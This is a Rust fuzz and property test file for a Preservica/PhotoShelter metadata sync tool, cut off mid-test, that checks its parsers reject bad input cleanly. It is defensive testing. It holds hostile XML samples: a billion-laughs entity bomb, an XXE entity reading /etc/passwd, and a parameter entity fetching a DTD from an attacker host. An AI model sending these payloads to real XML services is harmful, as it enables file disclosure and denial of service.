//! Bad input (issue 8): every parser and loader that reads what ferry did not write itself is
//! fed random and hostile input — Preservica's XML answers and metadata fragments,
//! PhotoShelter's JSON, mapping and configuration files, OPEX packages. None may panic; each
//! must answer with an error that says what is wrong (and, for files, where). Entity bombs
//! and deep nesting must be refused quickly and without a deep stack.
//!
//! Case counts are kept moderate so the module stays fast in debug builds; failures are not
//! persisted to files, each one found became a plain regression test here instead.

use ferry::config::{Config, ConfigError, Env};
use ferry::mapping::photoshelter::{self as ps_map, PhotoShelterRecord};
use ferry::mapping::preservica::{self as pv_map, Fragment, PreservicaRecord};
use ferry::mapping::{FieldChange, Mapping};
use ferry::model::FieldValue;
use ferry::photoshelter::wire::{self as psw, IdKind, MediaKind, Visibility};
use ferry::preservica::opex::{AssetSpec, FolderSpec, OpexError, PackageBuilder, read_package};
use ferry::preservica::wire as pw;
use ferry::xml::{self, Document, Element};
use proptest::prelude::*;
use proptest::sample::Index;
use serde_json::Value;
use std::io::{Cursor, Read, Write};
use std::path::Path;
use std::sync::{Arc, OnceLock};
use std::time::{Duration, Instant};
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipArchive, ZipWriter};

const DC_SCHEMA: &str = "http://www.openarchives.org/OAI/2.0/oai_dc/";
const DC_ELEMENTS: &str = "http://purl.org/dc/elements/1.1/";
const RIGHTS_SCHEMA: &str = "urn:ferry:schema:rights:1";
const OPEX_NS: &str = "http://www.openpreservationexchange.org/opex/v1.2";

/// Generous for a debug build on a busy machine; the refusals measured take milliseconds.
const QUICK: Duration = Duration::from_secs(5);

fn config(cases: u32) -> ProptestConfig {
    ProptestConfig {
        cases,
        failure_persistence: None,
        ..ProptestConfig::default()
    }
}

fn mapping() -> &'static Mapping {
    static M: OnceLock<Mapping> = OnceLock::new();
    M.get_or_init(|| {
        Mapping::parse(Mapping::default_text(), Path::new("default.toml"))
            .expect("the default mapping is valid")
    })
}

/// Runs `f` on a thread with a small stack: a parser that recursed per nesting level would
/// overflow it (aborting the whole run) long before 100 000 levels.
fn on_small_stack<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
    std::thread::Builder::new()
        .stack_size(256 * 1024)
        .spawn(f)
        .expect("thread starts")
        .join()
        .expect("no panic")
}

fn timed<T>(what: &str, f: impl FnOnce() -> T) -> T {
    let start = Instant::now();
    let out = f();
    let took = start.elapsed();
    assert!(took < QUICK, "{what} took {took:?}");
    out
}

// ---------------------------------------------------------------------------------------------
// Hostile documents

const BILLION_LAUGHS: &str = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<oai_dc:dc xmlns:oai_dc="http://www.openarchives.org/OAI/2.0/oai_dc/" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>&lol9;</dc:creator></oai_dc:dc>"#;

const EXTERNAL_ENTITY: &str = r#"<?xml version="1.0"?>
<!DOCTYPE dc [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<oai_dc:dc xmlns:oai_dc="http://www.openarchives.org/OAI/2.0/oai_dc/" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>&xxe;</dc:creator></oai_dc:dc>"#;

const PARAMETER_ENTITY: &str =
    r#"<!DOCTYPE dc [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]><dc/>"#;

/// `depth` nested elements, each declaring a namespace so the reader's bookkeeping grows too.
fn deep(depth: usize) -> String {
    let mut s = String::with_capacity(depth * 40);
    s.push_str(&format!(
        "<oai_dc:dc xmlns:oai_dc=\"{DC_SCHEMA}\" xmlns:dc=\"{DC_ELEMENTS}\">"
    ));
    for _ in 0..depth {
        s.push_str("<dc:creator>");
    }
    for _ in 0..depth {
        s.push_str("</dc:creator>");
    }
    s.push_str("</oai_dc:dc>");
    s
}

/// Documents every XML reader must refuse, with a word its error must contain.
fn hostile_documents() -> Vec<(&'static str, String, &'static str)> {
    let quadratic = format!(
        "<!DOCTYPE x [<!ENTITY a \"{}\">]><x>{}</x>",
        "a".repeat(50_000),
        "&a;".repeat(50_000)
    );
    vec![
        ("billion laughs", BILLION_LAUGHS.to_string(), "DOCTYPE"),
        ("quadratic blowup", quadratic, "DOCTYPE"),
        ("external entity", EXTERNAL_ENTITY.to_string(), "DOCTYPE"),
        ("parameter entity", PARAMETER_ENTITY.to_string(), "DOCTYPE"),
        (
            "undeclared entity",
            format!("<dc xmlns=\"{DC_SCHEMA}\">&xxe;</dc>"),
            "entity",
        ),
        ("100 000 levels deep", deep(100_000), "deeper than"),
        (
            "100 000 bare levels",
            format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000)),
            "deeper than",
        ),
        (
            "namespace name of 1 MB",
            format!("<x:dc xmlns:x=\"urn:{}\"/>", "n".repeat(1 << 20)),
            "namespace name",
        ),
    ]
}

// ---------------------------------------------------------------------------------------------
// Strategies

/// Pieces of XML, well-formed or not, that random documents are assembled from.
const XML_TOKENS: &[&str] = &[
    "<a>",
    "</a>",
    "<b>",
    "</b>",
    "<a/>",
    "<b x=\"1\" y='2'>",
    "<c a=\"&amp;&#x41;\"/>",
    "<c a=\"<\"/>",
    "<c a a/>",
    "<p:a>",
    "</p:a>",
    "<p:a xmlns:p=\"urn:p\">",
    "<r xmlns=\"urn:r\">",
    "</r>",
    "<q:r xmlns:q=\"\">",
    "<xip:Ref xmlns:xip=\"http://preservica.com/XIP/v7.7\">",
    "</xip:Ref>",
    "<dc:creator>",
    "</dc:creator>",
    "text",
    " ",
    "\n",
    "\r\n",
    "&amp;",
    "&lt;",
    "&#65;",
    "&#x1F600;",
    "&#0;",
    "&#xD800;",
    "&#x110000;",
    "&#99999999999999999999;",
    "&#;",
    "&foo;",
    "&",
    "<",
    ">",
    "=",
    "\"",
    "'",
    "<![CDATA[",
    "]]>",
    "<!--",
    "-->",
    "<?xml version=\"1.0\"?>",
    "<?xml version=\"1.0\" encoding=\"UTF-16\"?>",
    "<?pi data?>",
    "<!DOCTYPE x>",
    "<!DOCTYPE x [<!ENTITY e \"ee\">]>",
    "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
    "&e;",
    "\u{FEFF}",
    "\u{0}",
    "\u{1}",
    "\u{1b}",
    "é",
    "\u{FFFE}",
    "\u{10FFFF}",
];

fn xmlish() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        4 => prop::sample::select(XML_TOKENS).prop_map(str::to_string),
        1 => any::<char>().prop_map(String::from),
    ];
    prop::collection::vec(piece, 0..48).prop_map(|p| p.concat())
}

/// Random bytes read the way ferry reads a body it must turn into text.
fn lossy() -> impl Strategy<Value = String> {
    prop::collection::vec(any::<u8>(), 0..256)
        .prop_map(|b| String::from_utf8_lossy(&b).into_owned())
}

/// Anything a hostile server could send as text.
fn hostile_text() -> impl Strategy<Value = String> {
    prop_oneof![xmlish(), lossy(), any::<String>()]
}

/// An element tree in Preservica's vocabulary, rendered as a well-formed document.
#[derive(Debug, Clone)]
struct Node {
    name: &'static str,
    attrs: Vec<(&'static str, String)>,
    text: String,
    children: Vec<Node>,
}

const PRESERVICA_NAMES: &[&str] = &[
    "EntityResponse",
    "xip:Asset",
    "xip:Folder",
    "InformationObject",
    "xip:Ref",
    "Ref",
    "xip:Title",
    "Description",
    "SecurityTag",
    "Parent",
    "CustomType",
    "AdditionalInformation",
    "Metadata",
    "Fragment",
    "Children",
    "Child",
    "Paging",
    "Next",
    "TotalResults",
    "Entities",
    "Entity",
    "Identifiers",
    "Identifier",
    "ApiId",
    "Type",
    "Value",
    "Representations",
    "Representation",
    "ContentObjects",
    "ContentObject",
    "Generations",
    "Generation",
    "Bitstreams",
    "Bitstream",
    "Filename",
    "FileSize",
    "Fixities",
    "Fixity",
    "FixityAlgorithmRef",
    "FixityValue",
    "Content",
    "CurrentVersion",
];

const PRESERVICA_ATTRS: &[&str] = &["ref", "type", "title", "deleted", "schema", "active"];

fn wire_text() -> impl Strategy<Value = String> + Clone {
    prop_oneof![
        "\\PC{0,16}",
        prop::sample::select(
            &[
                "",
                " ",
                "12",
                "-1",
                "18446744073709551616",
                "7.7.0",
                "v6.1",
                "true",
                "false",
                "IO",
                "SO",
                "CO",
                "SHA1",
                "0xff",
                "\t\n",
            ][..]
        )
        .prop_map(str::to_string),
    ]
}

fn node() -> impl Strategy<Value = Node> {
    let name = prop::sample::select(PRESERVICA_NAMES);
    let attrs = prop::collection::vec((prop::sample::select(PRESERVICA_ATTRS), wire_text()), 0..3);
    let leaf = (name.clone(), attrs.clone(), wire_text()).prop_map(|(name, attrs, text)| Node {
        name,
        attrs,
        text,
        children: Vec::new(),
    });
    leaf.prop_recursive(5, 64, 6, move |inner| {
        (
            name.clone(),
            attrs.clone(),
            wire_text(),
            prop::collection::vec(inner, 0..6),
        )
            .prop_map(|(name, attrs, text, children)| Node {
                name,
                attrs,
                text,
                children,
            })
    })
}

fn render(n: &Node, root: bool, out: &mut String) {
    out.push('<');
    out.push_str(n.name);
    if root {
        out.push_str(" xmlns=\"http://preservica.com/EntityAPI/v7.7\" xmlns:xip=\"http://preservica.com/XIP/v7.7\"");
    }
    let mut seen = Vec::new();
    for (k, v) in &n.attrs {
        if !seen.contains(k) {
            seen.push(k);
            out.push_str(&format!(" {k}=\"{}\"", xml::esc(v)));
        }
    }
    out.push('>');
    out.push_str(&xml::esc(&n.text));
    for c in &n.children {
        render(c, false, out);
    }
    out.push_str(&format!("</{}>", n.name));
}

/// An element tree mixing prefixes, default namespaces and redeclarations at every level.
#[derive(Debug, Clone)]
struct NsNode {
    prefix: Option<&'static str>,
    local: &'static str,
    /// (prefix, or `None` for the default namespace; URI).
    decls: Vec<(Option<&'static str>, &'static str)>,
    attrs: Vec<(Option<&'static str>, &'static str, String)>,
    text: String,
    children: Vec<NsNode>,
}

const PREFIXES: &[Option<&str>] = &[None, Some("p"), Some("q"), Some("dc"), Some("xml")];
const URIS: &[&str] = &[
    "urn:a",
    "urn:b",
    DC_ELEMENTS,
    "",
    "urn:a&amp;b",
    "urn:&quot;quoted&quot;",
];
const LOCALS: &[&str] = &["creator", "subject", "x", "y", "Ref"];

fn ns_node() -> impl Strategy<Value = NsNode> {
    let prefix = prop::sample::select(PREFIXES);
    let local = prop::sample::select(LOCALS);
    let decls = prop::collection::vec(
        (
            prop::sample::select(&PREFIXES[..4]),
            prop::sample::select(URIS),
        ),
        0..3,
    );
    let attrs = prop::collection::vec((prefix.clone(), local.clone(), wire_text()), 0..3);
    let leaf = (
        prefix.clone(),
        local.clone(),
        decls.clone(),
        attrs.clone(),
        wire_text(),
    )
        .prop_map(|(prefix, local, decls, attrs, text)| NsNode {
            prefix,
            local,
            decls,
            attrs,
            text,
            children: Vec::new(),
        });
    leaf.prop_recursive(5, 48, 5, move |inner| {
        (
            prefix.clone(),
            local.clone(),
            decls.clone(),
            attrs.clone(),
            wire_text(),
            prop::collection::vec(inner, 0..5),
        )
            .prop_map(|(prefix, local, decls, attrs, text, children)| NsNode {
                prefix,
                local,
                decls,
                attrs,
                text,
                children,
            })
    })
}

fn qname(prefix: Option<&str>, local: &str) -> String {
    match prefix {
        Some(p) => format!("{p}:{local}"),
        None => local.to_string(),
    }
}

fn render_ns(n: &NsNode, out: &mut String) {
    let name = qname(n.prefix, n.local);
    out.push('<');
    out.push_str(&name);
    let mut seen = Vec::new();
    for (p, uri) in &n.decls {
        let key = match p {
            Some(p) => format!("xmlns:{p}"),
            None => "xmlns".to_string(),
        };
        // `xmlns:p=""` is not XML 1.0; only the default namespace can be undeclared.
        if !seen.contains(&key) && (p.is_none() || !uri.is_empty()) {
            out.push_str(&format!(" {key}=\"{uri}\""));
            seen.push(key);
        }
    }
    for (p, local, value) in &n.attrs {
        let key = qname(*p, local);
        if !seen.contains(&key) {
            out.push_str(&format!(" {key}=\"{}\"", xml::esc(value)));
            seen.push(key);
        }
    }
    out.push('>');
    out.push_str(&xml::esc(&n.text));
    for c in &n.children {
        render_ns(c, out);
    }
    out.push_str(&format!("</{name}>"));
}

fn json_key() -> impl Strategy<Value = String> {
    prop_oneof![
        3 => prop::sample::select(&[
            "data", "errors", "error", "id", "org_id", "org", "attributes", "name", "member",
            "meta", "paging", "total", "next", "status", "title", "detail", "message", "class",
            "type", "caption", "keywords", "date_created", "license_expiration_date",
            "model_released", "modified_at", "file_size", "author", "headline", "credit",
            "copyright", "trans_ref", "city", "state", "country", "rights", "instructions",
        ][..])
        .prop_map(str::to_string),
        1 => "\\PC{0,8}",
    ]
}

fn json_scalar() -> impl Strategy<Value = Value> {
    prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(Value::from),
        any::<u64>().prop_map(Value::from),
        any::<f64>().prop_map(Value::from),
        any::<String>().prop_map(Value::String),
        prop::sample::select(
            &[
                "",
                " ",
                "t",
                "f",
                "1",
                "0",
                "yes",
                "maybe",
                "-3",
                "1800",
                "18x",
                "2019-10-02 14:39:23 GMT",
                "2019-10-02T16:39:23+02:00",
                "2019-04-25",
                "2019-02-30",
                "9999-12-31 23:59:60",
                "+275760-09-13",
                "I0000AbCdEfGhIjK",
                "O0000AbCdEfGhIjK",
                "G0000AbCdEfGhIjK",
                "O0000AbCdEf/hIjK",
                "éééééééééééééééé",
                "a,b,,c",
                "ok",
                "error",
                "SessionRequiredErr",
                "everyone",
                "released",
            ][..]
        )
        .prop_map(|s| Value::String(s.to_string())),
    ]
}

fn json_value() -> impl Strategy<Value = Value> {
    json_scalar().prop_recursive(5, 64, 6, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..6).prop_map(Value::Array),
            prop::collection::vec((json_key(), inner), 0..6)
                .prop_map(|kv| Value::Object(kv.into_iter().collect())),
        ]
    })
}

// ---------------------------------------------------------------------------------------------
// Checks shared by the properties

fn all_elements(doc: &Document) -> Vec<&Element> {
    std::iter::once(&doc.root)
        .chain(doc.root.descendants())
        .collect()
}

/// Runs every Preservica response reader over a parsed document.
fn read_as_every_response(root: &Element) {
    if let Err(e) = pw::read_entity(root) {
        assert!(!e.to_string().trim().is_empty());
    }
    if let Err(e) = pw::read_bitstream(root) {
        assert!(!e.to_string().trim().is_empty());
    }
    let _ = pw::read_children(root);
    let _ = pw::read_entities(root);
    let _ = pw::read_identifiers(root);
    let _ = pw::read_representations(root);
    let _ = pw::read_representation(root);
    let _ = pw::read_generations(root);
    let _ = pw::read_generation(root);
}

/// The shared parser either refuses with a positioned message or gives a document whose
/// every element can be cut out again as a standalone document, as the client does with
/// metadata fragments.
fn check_xml_parse(src: &str) -> Result<(), TestCaseError> {
    match xml::parse(src) {
        Err(e) => {
            prop_assert!(!e.message.trim().is_empty());
            prop_assert!(e.position as usize <= src.len(), "{e}");
            prop_assert!(e.to_string().contains("at byte"), "{e}");
        }
        Ok(doc) => {
            read_as_every_response(&doc.root);
            for el in all_elements(&doc) {
                let cut = doc.extract(el);
                let again = xml::parse(&cut);
                prop_assert!(again.is_ok(), "{cut:?} cut from {src:?}: {again:?}");
                let again = again.unwrap();
                prop_assert_eq!(&again.root.local, &el.local);
                prop_assert_eq!(&again.root.namespace, &el.namespace);
            }
        }
    }
    let _ = pw::read_version(src);
    Ok(())
}

/// A Preservica record holding `xml` under both fragment schemas of the default mapping.
fn record_with(xml: &str) -> PreservicaRecord {
    PreservicaRecord {
        reference: "a7f1c2d4-0000-4000-8000-000000000001".into(),
        fragments: vec![
            Fragment {
                schema: DC_SCHEMA.into(),
                xml: xml.to_string(),
            },
            Fragment {
                schema: RIGHTS_SCHEMA.into(),
                xml: xml.to_string(),
            },
        ],
        ..PreservicaRecord::default()
    }
}

fn fragment_changes() -> Vec<FieldChange> {
    vec![
        FieldChange {
            field: "creator".into(),
            value: Some(FieldValue::Text("Ansel & <Adams>".into())),
        },
        FieldChange {
            field: "keywords".into(),
            value: FieldValue::set(["harbour", "regatta"]),
        },
        FieldChange {
            field: "copyright_notice".into(),
            value: None,
        },
        FieldChange {
            field: "headline".into(),
            value: Some(FieldValue::Text("Boats \"racing\"".into())),
        },
    ]
}

/// Reading and editing a fragment never panics, problems say what is wrong, and an edit of a
/// document the shared parser accepts yields a document it accepts too.
fn check_fragment(src: &str) -> Result<(), TestCaseError> {
    let record = record_with(src);
    let read = pv_map::read_record(mapping(), &record);
    for p in &read.problems {
        prop_assert!(!p.detail.trim().is_empty(), "{p:?}");
    }
    let write = pv_map::plan_write(mapping(), &record, &fragment_changes());
    for p in &write.problems {
        prop_assert!(!p.detail.trim().is_empty(), "{p:?}");
    }
    if xml::parse(src).is_ok() {
        for f in &write.fragments {
            let out = xml::parse(&f.xml);
            prop_assert!(out.is_ok(), "{src:?} edited to {:?}: {out:?}", f.xml);
        }
    }
    Ok(())
}

fn check_json(v: &Value) {
    let _ = psw::lenient_text(v);
    for r in [
        psw::lenient_u64(v).map(|_| ()),
        psw::lenient_bool(v).map(|_| ()),
        psw::lenient_timestamp(v).map(|_| ()),
        psw::page_total(v).map(|_| ()),
        psw::parse_orgs(Some(v)).map(|_| ()),
        psw::parse_orgs(psw::get(v, "org")).map(|_| ()),
        psw::parse_orgs(psw::get(v, "data").and_then(|d| psw::get(d, "org"))).map(|_| ()),
    ] {
        if let Err(e) = r {
            assert!(!e.trim().is_empty(), "{v}");
        }
    }
    if let Some(e) = psw::parse_error(v) {
        let _ = e.describe();
    }
    let _ = psw::v3_ok(v);
    let _ = psw::v3_session_error(v);
    let _ = psw::page_has_next(v);
    let data = psw::get(v, "data").unwrap_or(v);
    let attrs = psw::attributes(data);
    let record = PhotoShelterRecord {
        media_id: "I0000AbCdEfGhIjK".into(),
        iptc: attrs.clone(),
        attributes: v.as_object().cloned().unwrap_or_default(),
        ..PhotoShelterRecord::default()
    };
    for p in ps_map::read_record(mapping(), &record).problems {
        assert!(!p.detail.trim().is_empty(), "{p:?}");
    }
}

// ---------------------------------------------------------------------------------------------
// XML: the shared parser and Preservica's answers

proptest! {
    #![proptest_config(config(256))]

    #[test]
    fn shared_xml_parser_never_panics(src in hostile_text()) {
        check_xml_parse(&src)?;
    }

    #[test]
    fn preservica_answers_are_read_whatever_their_shape(tree in node(), cut in any::<Index>()) {
        let mut src = String::from("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n");
        render(&tree, true, &mut src);
        let doc = xml::parse(&src);
        prop_assert!(doc.is_ok(), "{src}: {doc:?}");
        check_xml_parse(&src)?;
        // The same answer cut short, as a dropped connection leaves it.
        let mut at = cut.index(src.len());
        while !src.is_char_boundary(at) {
            at -= 1;
        }
        check_xml_parse(&src[..at])?;
    }

    /// Cutting any element out of a document keeps every name in its namespace.
    #[test]
    fn extracted_elements_keep_their_namespaces(tree in ns_node()) {
        let mut src = String::new();
        render_ns(&tree, &mut src);
        let doc = xml::parse(&src);
        prop_assert!(doc.is_ok(), "{src}: {doc:?}");
        let doc = doc.unwrap();
        for el in all_elements(&doc) {
            let cut = doc.extract(el);
            let again = xml::parse(&cut);
            prop_assert!(again.is_ok(), "{cut:?} cut from {src:?}: {again:?}");
            let again = again.unwrap();
            let names = |root: &Element| -> Vec<(Option<Arc<str>>, String, String)> {
                std::iter::once(root)
                    .chain(root.descendants())
                    .map(|e| (e.namespace.clone(), e.local.clone(), e.text.clone()))
                    .collect()
            };
            prop_assert_eq!(names(&again.root), names(el), "{} cut from {}", cut, src);
        }
        check_fragment(&src)?;
    }

    #[test]
    fn metadata_fragments_are_read_and_edited_without_panics(src in hostile_text()) {
        check_fragment(&src)?;
    }
}

proptest! {
    #![proptest_config(config(128))]

    /// Well-formed Dublin Core with arbitrary neighbours: an edit changes the mapped elements,
    /// reads back as written, and leaves every other element as it was.
    #[test]
    fn fragment_edits_keep_everything_else(
        extra in prop::collection::vec(prop::sample::select(&[
            "<dc:title>Harbour &amp; regatta</dc:title>",
            "<dc:subject>old</dc:subject>",
            "<dc:creator>Someone</dc:creator>",
            "<dc:creator><b>nested</b></dc:creator>",
            "<dc:rights/>",
            "<x:note xmlns:x=\"urn:x\">keep <![CDATA[<me>]]></x:note>",
            "<creator>no namespace</creator>",
            "<!-- a comment -->",
            "<?pi keep?>",
            "\n  ",
            "text between",
        ][..]), 0..8),
        creator in "[A-Za-z&<>\"'][A-Za-z &<>\"']{0,18}[A-Za-z&<>\"']",
        keywords in prop::collection::btree_set("[a-z]{1,8}", 1..4),
        empty_root in any::<bool>(),
    ) {
        let src = if empty_root && extra.is_empty() {
            format!("<oai_dc:dc xmlns:oai_dc=\"{DC_SCHEMA}\" xmlns:dc=\"{DC_ELEMENTS}\"/>")
        } else {
            format!(
                "<oai_dc:dc xmlns:oai_dc=\"{DC_SCHEMA}\" xmlns:dc=\"{DC_ELEMENTS}\">{}</oai_dc:dc>",
                extra.concat()
            )
        };
        let mut record = record_with(&src);
        record.fragments.truncate(1);
        let changes = vec![
            FieldChange { field: "creator".into(), value: Some(FieldValue::Text(creator.clone())) },
            FieldChange { field: "keywords".into(), value: FieldValue::set(&keywords) },
        ];
        let write = pv_map::plan_write(mapping(), &record, &changes);
        prop_assert!(write.problems.is_empty(), "{:?}", write.problems);
        record.apply(&write);
        let after = &record.fragments[0].xml;
        let read = pv_map::read_record(mapping(), &record);
        prop_assert!(read.problems.iter().all(|p| p.field != "creator" && p.field != "keywords"), "{:?}", read.problems);
        prop_assert_eq!(read.record.get("creator"), Some(&FieldValue::Text(creator)));
        let wanted = FieldValue::set(&keywords);
        prop_assert_eq!(read.record.get("keywords"), wanted.as_ref());
        let others = |xml: &str| -> Vec<(Option<Arc<str>>, String, String)> {
            xml::parse(xml)
                .expect("well-formed")
                .root
                .children
                .iter()
                .filter(|c| {
                    c.namespace.as_deref() != Some(DC_ELEMENTS)
                        || !matches!(c.local.as_str(), "creator" | "subject")
                })
                .map(|c| (c.namespace.clone(), c.local.clone(), c.text.clone()))
                .collect()
        };
        prop_assert_eq!(others(after), others(&src), "{}", after);
    }
}

// ---------------------------------------------------------------------------------------------
// PhotoShelter's JSON

proptest! {
    #![proptest_config(config(256))]

    #[test]
    fn photoshelter_json_values_are_read_without_panics(v in json_value()) {
        check_json(&v);
        // The same value as it arrives: text, parsed the way the client parses bodies.
        let text = v.to_string();
        let parsed: Value = serde_json::from_slice(text.as_bytes()).expect("serde_json reads its own output");
        check_json(&parsed);
    }

    #[test]
    fn photoshelter_text_is_read_without_panics(s in prop_oneof![any::<String>(), lossy(), "[0-9 :TZ+.GMTUC-]{0,32}"]) {
        match psw::parse_timestamp(&s) {
            Ok(_) => {}
            Err(e) => prop_assert!(e.contains(&format!("\"{s}\"")), "{e}"),
        }
        if let Err(e) = psw::parse_bool_text(&s) {
            prop_assert!(!e.trim().is_empty());
        }
        if let Err(e) = psw::check_id(&s) {
            prop_assert!(!e.trim().is_empty());
        }
        for kind in [IdKind::Media, IdKind::Gallery, IdKind::Collection, IdKind::Organization, IdKind::User] {
            if let Some(why) = psw::odd_shape(kind, &s) {
                prop_assert!(!why.trim().is_empty());
            }
        }
        let _ = MediaKind::from_id(&s);
        let _ = MediaKind::from_type(&s);
        let _ = Visibility::parse(&s);
        let _ = psw::seg(&s);
        if let Ok(v) = serde_json::from_str::<Value>(&s) {
            check_json(&v);
        }
    }
}

/// A PhotoShelter answer body: anything at all, or a v4 resource envelope around random
/// attributes so that the reading goes past the envelope checks.
fn photoshelter_body(id: String) -> impl Strategy<Value = String> {
    let attrs = prop::collection::vec((json_key(), json_value()), 0..8)
        .prop_map(|kv| Value::Object(kv.into_iter().collect()));
    let custom = prop::collection::vec(
        prop::collection::vec(
            (
                prop::sample::select(&["field_name", "name", "value", "tag", "x"][..]),
                json_scalar(),
            ),
            0..4,
        )
        .prop_map(|kv| Value::Object(kv.into_iter().map(|(k, v)| (k.to_string(), v)).collect())),
        0..4,
    );
    prop_oneof![
        json_value().prop_map(|v| v.to_string()),
        lossy(),
        (attrs, custom, any::<bool>()).prop_map(move |(mut attrs, custom, with_custom)| {
            if with_custom && let Value::Object(m) = &mut attrs {
                m.insert("custom_metadata".into(), Value::Array(custom));
            }
            serde_json::json!({"data": {"id": id, "type": "image", "attributes": attrs}})
                .to_string()
        }),
    ]
}

/// The client reading a media item, and a page of media, from answers that are anything
/// a broken or hostile server could send: an error or a record, never a panic.
#[test]
fn photoshelter_client_reads_random_answers_without_panics() {
    use crate::photoshelter::{client, options, start};
    use ferry::photoshelter::emulator::Override;
    use proptest::test_runner::TestRunner;
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .unwrap();
    let emu = rt.block_on(start(options(3)));
    let c = client(&emu);
    let id = emu.media_ids()[0].clone();
    let media = format!("/psapi/v4.0/media/{id}");
    let paths = [
        media.clone(),
        format!("{media}/iptc"),
        format!("{media}/custom-metadata"),
        "/psapi/v4.0/media".to_string(),
    ];
    let mut runner = TestRunner::new(config(64));
    let result = runner.run(
        &(
            prop::sample::select(paths.to_vec()),
            photoshelter_body(id.clone()),
            prop::sample::select(&[200u16, 200, 200, 400, 404, 500][..]),
        ),
        |(path, body, status)| {
            emu.override_response(Override {
                method: Some("GET".into()),
                path: path.clone(),
                status,
                content_type: "application/json".into(),
                body,
                times: 1,
            });
            rt.block_on(async {
                if path.ends_with("/media") {
                    if let Err(e) = c.list_page(1).await {
                        prop_assert!(!e.to_string().trim().is_empty());
                    }
                } else {
                    match c.read_record(&id).await {
                        Ok(record) => check_json(&Value::Object(record.attributes)),
                        Err(e) => prop_assert!(!e.to_string().trim().is_empty()),
                    }
                }
                Ok(())
            })?;
            // An answer the client gave up on before asking for it stays queued; clear it.
            rt.block_on(async {
                let _ = c.read_record(&id).await;
                let _ = c.list_page(1).await;
            });
            Ok(())
        },
    );
    if let Err(e) = result {
        panic!("{e}");
    }
}

/// The Preservica client reading an asset whose stored metadata fragment is anything an
/// archivist's tool could have left: a clear error or the fragment as stored, never a panic.
#[test]
fn preservica_client_reads_random_fragments_without_panics() {
    use proptest::test_runner::TestRunner;
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .unwrap();
    let (emu, c) = rt.block_on(preservica());
    let asset = emu.asset_refs()[0].clone();
    let mut runner = TestRunner::new(config(64));
    let fragments = prop_oneof![
        hostile_text(),
        ns_node().prop_map(|n| {
            let mut s = String::new();
            render_ns(&n, &mut s);
            s
        }),
    ];
    let result = runner.run(&fragments, |xml| {
        emu.set_fragment(&asset, DC_SCHEMA, &xml);
        rt.block_on(async {
            match c.read_asset(&asset).await {
                Ok(record) => {
                    let stored = record.fragment(DC_SCHEMA).map(|f| f.xml.clone());
                    let read = pv_map::read_record(mapping(), &record);
                    for p in &read.problems {
                        prop_assert!(!p.detail.trim().is_empty());
                    }
                    // What ferry read is the document the archive holds.
                    if let (Ok(want), Some(got)) = (xml::parse(&xml), stored) {
                        let got = xml::parse(&got);
                        prop_assert!(got.is_ok(), "{xml:?} read back as {got:?}");
                        prop_assert_eq!(tree(&got.unwrap().root), tree(&want.root));
                    }
                }
                Err(e) => prop_assert!(!e.to_string().trim().is_empty()),
            }
            Ok(())
        })
    });
    if let Err(e) = result {
        panic!("{e}");
    }
}

/// Found by `preservica_client_reads_random_fragments_without_panics`: a fragment pasted into
/// a write body or an answer fell under its default namespace, so an element the fragment
/// left unqualified (as XML Schema's default `elementFormDefault` does) changed namespace.
#[test]
fn unqualified_fragment_elements_stay_in_no_namespace_on_the_wire() {
    let fragment = r#"<ns0:record xmlns:ns0="urn:x"><title>Harbour</title></ns0:record>"#;
    let v = pw::Version::new(7, 7, 0);
    for body in [
        pw::metadata_container(&v, "urn:x", "ref-1", Some("frag-1"), fragment),
        pw::metadata_response(&v, "urn:x", "frag-1", "ref-1", fragment, "http://x/self"),
    ] {
        let doc = xml::parse(&body).unwrap();
        let container = match doc.root.child("MetadataContainer") {
            Some(c) => c,
            None => &doc.root,
        };
        let content = container.child("Content").unwrap().first_child().unwrap();
        assert_eq!(content.child("title").unwrap().namespace, None, "{body}");
        assert_eq!(doc.extract(content), fragment);
    }
}

#[tokio::test]
async fn unqualified_fragment_elements_stay_in_no_namespace_through_the_emulator() {
    let (emu, c) = preservica().await;
    let asset = emu.asset_refs()[0].clone();
    emu.set_fragment(&asset, DC_SCHEMA, "<creator></creator>");
    let read = c.read_asset(&asset).await.unwrap();
    assert_eq!(read.fragment(DC_SCHEMA).unwrap().xml, "<creator></creator>");

    let fragment = r#"<ns0:record xmlns:ns0="urn:x"><title>Harbour</title></ns0:record>"#;
    let write = pv_map::PreservicaWrite {
        fragments: vec![pv_map::FragmentWrite {
            schema: "urn:x".into(),
            exists: false,
            xml: fragment.into(),
            fields: vec!["title".into()],
